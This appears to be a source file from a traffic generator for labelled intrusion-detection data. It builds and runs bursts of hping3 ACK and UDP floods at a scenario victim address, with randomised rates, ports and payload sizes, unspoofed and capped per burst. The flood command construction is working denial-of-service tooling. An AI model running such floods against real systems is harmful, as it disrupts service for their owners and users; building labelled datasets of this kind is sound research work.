// ACK and UDP floods with hping3 from the scenario host's own address (never spoofed: the source
// labels the flows), in bursts as syn-flood.ts sends SYNs. Per run: the rate, burst lengths,
// target ports, payload size, TCP window and whether the source port moves (a new flow per
// packet) or stays (one long flow per burst, cut by the active timeout).
import type { Scenario, ScenarioContext, ScenarioResult } from "../scenario.ts";
import { Budget } from "./bounded.ts";
import { HPING3_NO_IPV6, runHping3Burst } from "./syn-flood.ts";
import { chance, intBetween, pick, pickWeighted, type Rng } from "./random.ts";

const MAX_PACKETS_PER_BURST = 30_000;

interface FloodMode {
  id: string;
  label: string;
  description: string;
  /** hping3's mode and per-burst options. */
  args: (rng: Rng, ctx: ScenarioContext) => { flags: string[]; port: string; describe: string };
}

/** Payload sizes: empty, small, or near the MTU. */
function payload(rng: Rng, p: number): string[] {
  if (!chance(rng, p)) return [];
  return ["-d", String(pickWeighted<() => number>(rng, [[() => intBetween(rng, 1, 64), 3], [() => intBetween(rng, 64, 512), 2], [() => intBetween(rng, 512, 1_400), 1]])())];
}

const MODES: FloodMode[] = [
  {
    id: "hping3-ack-flood",
    label: "DoS-ACKFlood",
    description: "hping3 -A ACK flood bursts (stray ACKs the victim answers with RSTs)",
    args: (rng, ctx) => {
      const port = pickWeighted(rng, [[ctx.services.web.port, 5], [ctx.services.ssh.port, 1], [ctx.services.ftp.port, 1], [intBetween(rng, 1_024, 65_535), 1]] as const);
      const flags = ["-A", ...payload(rng, 0.3), ...(chance(rng, 0.4) ? ["-w", String(pick(rng, [512, 1_024, 8_192, 29_200, 64_240, 65_535]))] : [])];
      // Sometimes with PSH too, as ACK floods carrying data are sent.
      if (flags.includes("-d") && chance(rng, 0.5)) flags.push("-P");
      return { flags, port: String(port), describe: `ACK${flags.includes("-P") ? "+PSH" : ""}` };
    },
  },
  {
    id: "hping3-udp-flood",
    label: "DoS-UDPFlood",
    description: "hping3 --udp flood bursts to DNS, NTP, closed and walking ports",
    args: (rng) => {
      const target = pickWeighted(rng, [["53", 3], ["123", 2], ["high", 2], ["walk", 1]] as const);
      // "++p": hping3 increments the destination port with every packet.
      const port = target === "high" ? String(intBetween(rng, 1_024, 65_535)) : target === "walk" ? `++${intBetween(rng, 1, 30_000)}` : target;
      return { flags: ["--udp", ...payload(rng, 0.8)], port, describe: "UDP" };
    },
  },
];

async function runFlood(mode: FloodMode, ctx: ScenarioContext): Promise<ScenarioResult> {
  const { rng } = ctx;
  const budget = new Budget(ctx.durationMs);
  const maxBursts = intBetween(rng, 1, 4);
  // Mostly a new source port per packet (hping3's default); now and then one fixed port (-k).
  const fixedSource = chance(rng, 0.15) ? intBetween(rng, 1_024, 65_000) : null;
  let sent = 0;
  let answered = 0;
  const bursts: string[] = [];
  const problems: string[] = [];
  for (let i = 0; i < maxBursts && budget.allows(1_500); i++) {
    const { flags, port, describe } = mode.args(rng, ctx);
    const rate = intBetween(rng, 300, 2_500);
    const intervalUs = Math.round(1e6 / rate);
    const seconds = Math.min(budget.remainingMs() / 1_000, intBetween(rng, 3, 12));
    const count = Math.max(1, Math.min(MAX_PACKETS_PER_BURST, Math.round(rate * seconds)));
    const argv = [
      "hping3", ...flags, "-p", port, "-i", `u${intervalUs}`, "-c", String(count), "-q",
      ...(fixedSource !== null ? ["-s", String(fixedSource), "-k"] : []), ctx.victimIp,
    ];
    ctx.log(argv.join(" "));
    // A flood may be cut at the budget's end (1 s of grace).
    const burst = await runHping3Burst(ctx, budget, argv, count, rate, 1_000);
    sent += burst.sent;
    answered += burst.answered;
    if (burst.problem !== null) problems.push(burst.problem);
    bursts.push(`${describe} ${count}@${rate}/s→:${port}${flags.includes("-d") ? ` +${flags[flags.indexOf("-d") + 1]} B` : ""}`);
    await budget.pause(intBetween(rng, 300, 2_000));
  }
  const notes = [`${bursts.length} bursts (${bursts.join(", ")}), ${answered} answered`, fixedSource !== null ? `fixed source port ${fixedSource}` : "new source port per packet"];
  if (problems.length > 0) notes.push(`errors: ${[...new Set(problems)].join(" | ")}`);
  return { actions: sent, note: notes.join(", ") };
}

export const HPING3_FLOOD_SCENARIOS: Scenario[] = MODES.map((mode) => ({
  id: mode.id,
  label: mode.label,
  tool: "hping3",
  ipv6: HPING3_NO_IPV6,
  description: mode.description,
  run: (ctx) => runFlood(mode, ctx),
}));
